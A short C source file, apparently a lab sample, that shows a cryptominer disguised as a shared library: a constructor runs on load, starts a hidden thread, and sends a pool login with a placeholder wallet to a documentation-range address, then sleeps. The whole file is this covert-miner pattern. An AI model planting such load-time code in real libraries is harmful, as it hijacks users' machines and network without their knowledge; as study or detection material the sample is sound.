/* A miner as a library: a thread of somebody else's program logs in to the pool stub and says nothing more. */
#include <arpa/inet.h>
#include <pthread.h>
#include <string.h>
#include <unistd.h>

static void *mine(void *unused)
{
    static const char login[] = "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"LABWALLET\","
                                "\"pass\":\"x\",\"agent\":\"lib/1\",\"algo\":[\"rx/0\"]}}\n";
    struct sockaddr_in pool = {.sin_family = AF_INET, .sin_port = htons(3333)};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "203.0.113.66", &pool.sin_addr);
    if (connect(s, (struct sockaddr *)&pool, sizeof pool) == 0)
        (void)!write(s, login, strlen(login));
    pause();
    return unused;
}

__attribute__((constructor)) static void start(void)
{
    pthread_t thread;
    pthread_create(&thread, 0, mine, 0);
}
